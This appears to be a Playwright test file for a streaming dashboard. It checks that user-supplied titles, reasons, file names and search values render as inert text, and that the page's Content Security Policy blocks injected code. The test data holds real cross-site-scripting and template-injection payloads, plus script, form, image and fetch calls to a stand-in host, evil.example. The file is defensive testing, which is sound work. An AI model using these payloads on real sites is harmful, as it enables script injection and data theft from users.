"""Pages that show what strangers wrote: scripts in it do not run, and the policy would stop those that came through."""

import asyncio
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, expect

from kit import browser as browsers
from kit.service_program import ServiceProgram
from streamferry.media.url import MediaUrl
from streamferry.store import Seal, Store
from streamferry.store.database import read_now_ms
from streamferry.store.events import NewEvent, append
from streamferry.store.schema import delivery, mailbox, run, task
from streamferry.tasks.model import TaskItem, TaskKind, TaskSpec

KEY, SECRET = "AKINJECTED", "planted-secret-of-injections"
#: Each way in calls ``hit`` with a number of its own. No white space, which addresses do not hold.
MARKUP = "<img/src=x/onerror=hit(1)><svg/onload=hit(2)><script>hit(3)</script>"
BREAKS = "\"/onmouseover=hit(4)/x='-hit(5)-'`+hit(6)+`${hit(7)}</script><script>hit(8)</script>"
TEMPLATE = "{{hit(9)}}{{constructor.constructor('hit(10)')()}}"
PAYLOAD = MARKUP + BREAKS + TEMPLATE
FILE_NAME = f"<img src=x onerror=hit(11)>{TEMPLATE}.mp4"
ADD = "const one = Object.assign(document.createElement(tag), values); document.body.append(one); return one"
COUNT = "window.ran = []; window.hit = number => { window.ran.push(number) }"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """One browser for all tests here."""
    with browsers.chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServiceProgram]:
    """A service with a file in its library whose name is markup."""
    settings = {"STREAMFERRY_ACCESS_KEY_ID": KEY, "STREAMFERRY_SECRET_ACCESS_KEY": SECRET}
    words = ("--egress", "any", "--workers", "1")
    with ServiceProgram(tmp_path_factory.mktemp("injected"), *words, environment=settings) as one:
        one.wait_ready()
        (one.data / "library").mkdir(exist_ok=True)
        (one.data / "library" / FILE_NAME).touch()
        yield one


@pytest.fixture(scope="module")
def task_id(service: ServiceProgram) -> str:
    """A task whose every text is markup, also those that the front ends would refuse: they are not to be relied on."""
    # Playwright's loop is this thread's.
    with ThreadPoolExecutor(1) as other:
        return other.submit(lambda: asyncio.run(plant(service))).result()


async def plant(service: ServiceProgram) -> str:
    start_at = datetime.now(UTC) + timedelta(hours=1)
    async with service.actions() as actions:
        await actions.create_group(PAYLOAD[:64], "project")
        made = await actions.create_task(
            TaskSpec(
                TaskKind.VOD,
                tuple(TaskItem(MediaUrl.parse(f"http://files.example/{PAYLOAD}/{name}")) for name in (MARKUP, "a.mp4")),
                MediaUrl.parse(f"rtmp://push.example/{PAYLOAD}/key"),
                start_at,
                start_at + timedelta(hours=1),
                title=PAYLOAD,
                group=PAYLOAD[:64],
                callback_url=f"http://calls.example/{PAYLOAD}",
            )
        )
    store = Store(service.store_url, Seal((service.data / "seal.key").read_text().strip()))
    trouble = {"state": "retrying", "fault": "user_source", "reason": PAYLOAD, "trouble_tries": 3}
    trouble |= {"trouble_fault": "user_source", "trouble_reason": PAYLOAD}
    async with store.write() as connection:
        now_ms = await read_now_ms(connection)
        detail = {"reason": PAYLOAD, "fault": "user_source", "to": PAYLOAD, "version": PAYLOAD}
        kinds = ("retrying", "failed", PAYLOAD[:24])
        await append(connection, [NewEvent(made, kind, now_ms, detail) for kind in kinds])
        # It has begun, and no worker takes it.
        await connection.execute(task.update().values(start_ms=now_ms - 60_000))
        await connection.execute(run.update().values(trouble_ms=now_ms, due_ms=None, **trouble))
        await connection.execute(mailbox.update().values(failures=3))
        await connection.execute(delivery.update().values(problem=PAYLOAD, state="dead", settled_ms=now_ms, attempts=3))
    await store.aclose()
    return made


def test_what_strangers_wrote_is_text_on_every_page(chromium: Browser, service: ServiceProgram, task_id: str) -> None:
    """Titles, groups, addresses, reasons, events, callbacks, file names, searches and what stands in the address."""
    with browsers.tab(chromium, service.url) as tab:
        page = tab.page
        page.add_init_script(COUNT)
        page.goto(f"dashboard/sign-in?next={quote(f'/dashboard/{PAYLOAD}')}")
        page.locator("[name=access_key_id]").fill(PAYLOAD)
        page.locator("[name=secret]").fill(PAYLOAD)
        page.locator("[type=submit]").click()
        expect(page.get_by_role("alert")).to_be_visible()
        expect(page.locator("[name=access_key_id]")).to_have_value(PAYLOAD[:128])
        nothing_ran(page)
        browsers.sign_in(page, KEY, SECRET)
        expect(page.locator(".problem-line")).to_contain_text(TEMPLATE)
        nothing_ran(page)
        page.goto(f"dashboard/tasks?search={quote(PAYLOAD)}&group={quote(PAYLOAD)}&state={quote(PAYLOAD)}")
        expect(page.locator(".page")).to_be_visible()
        nothing_ran(page)
        for width in (1360, 390):
            page.set_viewport_size({"width": width, "height": 900})
            page.goto("dashboard/tasks")
            expect(page.locator("a.line-title")).to_have_text(PAYLOAD)
            expect(page.locator("div.problem").first).to_contain_text(TEMPLATE)
            expect(page.locator("div.problem").last).to_have_text("Callbacks are not taken; failed tries in a row: 3.")
            nothing_ran(page)
        page.set_viewport_size({"width": 1360, "height": 900})
        page.locator("a.line-title").click()
        expect(page.locator("h1")).to_have_text(PAYLOAD)
        expect(page.locator(".problem-bar")).to_contain_text(TEMPLATE)
        expect(page.get_by_text("Callbacks are not taken")).to_be_visible()
        for name in ("Problems", "All", "Callbacks"):
            page.get_by_role("tab", name=name, exact=True).click()
            expect(page.locator(".log-line:visible").first).to_be_visible()
            nothing_ran(page)
        expect(page.locator(".log-line:visible").first).to_contain_text(TEMPLATE)
        page.get_by_role("button", name="More").click()
        page.get_by_text("As API request").click()
        expect(page.get_by_role("dialog")).to_contain_text(TEMPLATE)
        nothing_ran(page)
        page.keyboard.press("Escape")
        page.goto(f"dashboard/tasks/{task_id}/edit")
        expect(page.get_by_label(re.compile("^Title"))).to_have_value(PAYLOAD)
        nothing_ran(page)
        page.goto(f"dashboard/new?file={quote(PAYLOAD)}")
        expect(page.get_by_label(re.compile("^File: https"))).to_have_value(re.compile("hit"))
        page.get_by_role("button", name="From the library").click()
        expect(page.get_by_role("dialog")).to_contain_text(FILE_NAME)
        nothing_ran(page)
        page.goto("dashboard/library")
        expect(page.locator(".line-title")).to_have_text(FILE_NAME)
        page.get_by_role("button", name=re.compile("^Delete")).click()
        expect(page.get_by_role("dialog")).to_contain_text(FILE_NAME)
        nothing_ran(page)
        for path in (quote(PAYLOAD), f"tasks/{quote(PAYLOAD, safe='')}"):
            page.goto(f"dashboard/{path}")
            nothing_ran(page)
        # Nothing was even tried that the policy had to stop.
        assert tab.problems == []


def nothing_ran(page: Page) -> None:
    """Not now, nor once all pictures have failed and all is drawn."""
    for one in page.locator("[onmouseover]").all():
        one.hover()
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")
    assert page.evaluate("window.ran") == []


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit(1)>')",
        "add('script', {text: 'hit(2)'})",
        "add('script', {src: 'http://evil.example/x.js'})",
        "add('script', {src: 'data:text/javascript,hit(3)'})",
        "add('iframe', {srcdoc: '<script>top.hit(4)</script>'})",
        "add('object', {data: 'data:text/html,x'})",
        "add('a', {href: 'javascript:hit(5)'}).click()",
        "add('base', {href: 'http://evil.example/'})",
        "add('form', {action: 'http://evil.example/'}).submit()",
        "new Image().src = 'http://evil.example/x.gif'",
        "fetch('http://evil.example/').catch(() => 0)",
    ],
)
def test_markup_that_came_through_would_do_nothing(signed_in: browsers.Tab, attempt: str) -> None:
    """No script in markup or attributes, nothing from or to another host, no frame, no other base."""
    page = signed_in.page
    signed_in.problems.clear()
    page.evaluate(f"() => {{ const add = (tag, values) => {{ {ADD} }}; {attempt} }}")
    page.evaluate("() => new Promise(done => setTimeout(done, 50))")
    assert page.evaluate("window.ran") == []
    signed_in.wait_problem("Content Security Policy")


@pytest.fixture(scope="module")
def signed_in(chromium: Browser, service: ServiceProgram) -> Iterator[browsers.Tab]:
    """A page that is open, with what counts scripts that run."""
    with browsers.tab(chromium, service.url) as tab:
        tab.page.add_init_script(COUNT)
        browsers.sign_in(tab.page, KEY, SECRET)
        yield tab


def test_no_page_takes_scripts_in_its_markup(signed_in: browsers.Tab) -> None:
    """The policy of each page, and nonces that are used once."""
    page, nonces = signed_in.page, set()
    for path in ("", "tasks", "new", "library", "nope", ""):
        answer = page.request.get(f"dashboard/{path}", headers={"accept": "text/html"})
        policy = dict(part.strip().split(" ", 1) for part in answer.headers["content-security-policy"].split(";"))
        found = re.fullmatch(r"'self' 'nonce-([\w-]{22})' 'unsafe-eval'", policy["script-src"])
        assert found, path
        nonces.add(found[1])
        assert f'<script nonce="{found[1]}"' in answer.text()
    assert len(nonces) == 6
    form = page.request.get("dashboard/sign-in", max_redirects=0)
    assert "script-src 'self';" in form.headers["content-security-policy"]
